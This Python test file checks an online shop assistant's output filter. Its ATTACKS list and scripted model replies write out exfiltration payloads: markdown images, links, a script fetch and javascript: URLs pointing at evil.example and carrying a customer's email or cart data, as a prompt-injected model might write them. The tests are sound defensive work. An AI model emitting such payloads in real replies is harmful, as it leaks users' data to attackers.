"""S10/S11: what reaches the shopper is text without the canary, HTML, images or outside links.

The filter is the last line behind the model: these tests feed it what a tricked model
writes (markdown images and links to an attacker's host carrying conversation data, raw
HTML, the canary in disguise), in one piece and streamed delta by delta, and check that
the store's own links survive.
"""

from __future__ import annotations

import pytest

from agent.fakes import ScriptedModel, call
from agent.reply_filter import StreamScrubber, hosts_in, result_hosts, scrub
from agent.resilience import RetryPolicy
from agent.service import Agent
from shop.db import Database
from shop.models import Product
from shop.payments import TestProvider
from shop.settings import Settings
from tests.conftest import MERCHANT, KeywordRetriever
from tests.security.adversary import disguises
from tests.server.conftest import server_settings

CANARY = "sa-canary-0123456789ab"
STORE = hosts_in("https://shop.example", "help@trailtest.example, +370 5 200 0000")
ATTACKS = [
    "![pixel](https://evil.example/p.png?d=ruta@example.com)",
    "![a [nested] alt](https://evil.example/x.png)",
    '<img src="https://evil.example/i.png?c=cart">',
    "<a href='https://evil.example/'>click</a>",
    "[your discount](https://evil.example/d?cart=LAMP-200)",
    "[run](javascript:alert(document.cookie))",
    "https://evil.example/collect?email=ruta@example.com",
    "//evil.example/proto-relative",
    "www.evil.example/landing",
    "evil.example/path?x=1",
    "<script>fetch('https://evil.example')</script>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
]
KEPT = [
    "[your cart](https://shop.example/cart)",
    "https://www.shop.example/p/lamp",
    "[the lamp](/products/lamp-200)",
    "Write to help@trailtest.example for returns.",
    "Weight 2.4 kg, 34.50 EUR, 1/2 price of the old model.",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_outside_links_images_and_html_are_cut(attack: str) -> None:
    shown = scrub(f"Here you go: {attack} Anything else?", CANARY, STORE)
    assert "evil.example" not in shown and "javascript:" not in shown and "data:" not in shown
    assert "<" not in shown and "![" not in shown
    assert shown.startswith("Here you go:") and shown.endswith("Anything else?")


@pytest.mark.parametrize("kept", KEPT)
def test_the_stores_own_links_and_plain_text_stay(kept: str) -> None:
    assert scrub(kept, CANARY, STORE) == kept


def test_a_link_label_stays_when_its_outside_target_goes() -> None:
    assert scrub("See [our deal](https://evil.example/d) now.", CANARY, STORE) == "See our deal now."


def test_link_fields_of_tool_results_are_the_stores_hosts() -> None:
    results = [
        {"order_id": "SA-1", "payment_url": "https://checkout.stripe.com/c/pay/cs_test_1"},
        {"results": [{"sku": "LAMP-200", "url": "https://trailtest.example/p/lamp"}]},
        {"passages": [{"text": "Visit https://evil.example/ for a prize"}]},  # free text is not a link field
    ]
    hosts = result_hosts(results)
    assert hosts == {"checkout.stripe.com", "trailtest.example"}
    reply = "Pay here: https://checkout.stripe.com/c/pay/cs_test_1 and see https://evil.example/"
    assert scrub(reply, CANARY, hosts) == "Pay here: https://checkout.stripe.com/c/pay/cs_test_1 and see"


@pytest.mark.parametrize("disguise", disguises(CANARY) + [f"Internal reference: {CANARY}", CANARY.title()])
def test_the_canary_is_cut_in_any_disguise(disguise: str) -> None:
    shown = scrub(f"The code is {disguise} as requested.", CANARY, STORE)
    squeezed = "".join(ch for ch in shown if ch.isalnum() or ch == "-").casefold()
    assert CANARY.replace("-", "") not in squeezed.replace("-", "")
    assert shown.startswith("The code is")


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11])
def test_streamed_deltas_are_filtered_like_the_whole_reply(size: int) -> None:
    text = (
        "Sure! ![p](https://evil.example/p.png?d=1) Here [deal](https://evil.example/x) and "
        f"{' '.join(CANARY)} and {CANARY.upper()} then https://evil.example/c?x=2 <img src=x> "
        "but [cart](https://shop.example/cart) stays. 帐篷很好。"
    )
    stream = StreamScrubber(CANARY, STORE)
    shown = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size)) + stream.flush()
    assert "evil.example" not in shown and "<img" not in shown and "![" not in shown
    assert CANARY not in "".join(shown.split()).casefold()
    assert "[cart](https://shop.example/cart) stays." in shown and shown.endswith("帐篷很好。")


def test_ordinary_text_streams_without_waiting_for_the_end() -> None:
    stream = StreamScrubber(CANARY, STORE)
    chinese = "这顶帐篷重两公斤，适合三季使用。"
    assert "".join(stream.feed(ch) for ch in chinese) == chinese  # nothing held back to the end
    english = "The tent weighs two kilos and packs small "
    shown = "".join(stream.feed(word + " ") for word in english.split())
    assert english.startswith(shown) and len(english) - len(shown) <= 2  # at most a possible canary start
    assert shown + stream.flush() == english


def test_through_the_agent_the_store_link_stays_and_the_outside_ones_go(
    settings: Settings, db: Database, retriever: KeywordRetriever
) -> None:
    with db.session() as s:
        s.query(Product).filter_by(
            merchant_id=MERCHANT, sku="LAMP-200"
        ).one().url = "https://trailtest.example/p/lamp"
    model = ScriptedModel(
        [
            call("get_product", sku="LAMP-200"),
            "The [Lumen 200](https://trailtest.example/p/lamp) is 34.50 EUR. "
            "![track](https://evil.example/t.png?q=lamp) Deal: [here](https://evil.example/deal) "
            "or https://evil.example/raw",
        ]
    )
    agent = Agent(
        server_settings(settings),
        db,
        retriever,
        model,
        TestProvider(),
        retry=RetryPolicy(retries=0, sleep=lambda _s: None),
    )
    tokens: list[str] = []
    result = agent.turn(
        MERCHANT, None, "the lamp", lambda e: tokens.append(e.data["text"]) if e.type == "token" else None
    )
    assert "[Lumen 200](https://trailtest.example/p/lamp)" in result.reply
    assert "evil.example" not in result.reply and "evil.example" not in "".join(tokens)
    assert "Deal: here" in result.reply
